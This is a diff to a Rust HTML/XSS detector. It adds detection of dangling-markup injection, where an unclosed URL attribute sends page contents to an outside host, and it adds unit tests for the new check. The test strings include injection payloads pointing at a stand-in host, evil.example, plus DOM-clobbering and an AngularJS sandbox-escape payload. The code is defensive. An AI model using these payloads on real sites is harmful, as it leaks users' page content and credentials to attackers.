@@ -236,6 +236,12 @@ fn tags(b: &[u8]) -> Option<Hit> {
     None
 }
 
+/// A URL that leaves the page's origin: `http://`, `https://` or protocol-relative `//`.
+fn remote_url(v: &[u8]) -> bool {
+    let v = v.trim_ascii_start();
+    v.starts_with(b"http://") || v.starts_with(b"https://") || v.starts_with(b"//")
+}
+
 /// Tags whose name spelled with whitespace between its letters (`<f o r m`, `<s\tc r i p t`)
 /// is an evasion of filters that look for the name: no markup or prose writes a tag so.
 const SPACED_TAGS: &[&[u8]] = &[
@@ -360,7 +366,16 @@ fn attributes<'b>(
         i = skip_space(b, i + 1);
         let (vs, ve) = match b.get(i) {
             Some(q @ (b'"' | b'\'' | b'`')) => {
-                let end = memchr::memchr(*q, &b[i + 1..]).map_or(b.len(), |e| i + 1 + e);
+                let closed = memchr::memchr(*q, &b[i + 1..]).map(|e| i + 1 + e);
+                // Dangling markup: a URL attribute whose quote the value never closes sends the
+                // page, up to the next such quote, to the URL's host: no script needed. A link
+                // (`<a href="…`) sends it only when clicked: a post cut short writes one too.
+                let loads = !matches!(tag, b"a" | b"area");
+                if closed.is_none() && loads && URI_ATTRS.contains(&name) && remote_url(&b[i + 1..])
+                {
+                    return (Some(Hit::new("xss.dangling_markup", ns, b.len())), b.len());
+                }
+                let end = closed.unwrap_or(b.len());
                 let r = (i + 1, end);
                 i = (end + 1).min(b.len());
                 r
@@ -1289,6 +1304,10 @@ mod tests {
         for b in [
             "<b>bold</b> and <i>italic</i>",
             "<a href=\"https://example.com/a?b=c\">link</a>",
+            // Cut short, but to the page's own path; a quote left open on a plain attribute.
+            "<a href=\"/docs/guide",
+            "Here's a video: <a href=\"https://www.youtube.com/watch?v=",
+            "<img alt=\"a photo of the bay",
             "3 < 5 and 7 > 2",
             "John Smith <john@example.com>",
             "Meeting at 10:30, see https://example.com",
@@ -1340,6 +1359,9 @@ mod tests {
         for (a, want) in [
             ("<form id=test><input name=attributes></form>", "xss.dom_clobbering"),
             ("<img name=cookie>", "xss.dom_clobbering"),
+            ("<img src='https://evil.example/log?html=", "xss.dangling_markup"),
+            ("\"><img src='//evil.example/?c=", "xss.dangling_markup"),
+            ("<table background=\"http://evil.example/?", "xss.dangling_markup"),
             ("<a id=x><a id=x name=y href=//evil.example>", "xss.dom_clobbering"),
             (
                 "<input autofocus ng-focus=\"$event.path|orderBy:'[].constructor.from([1],alert)'\">",
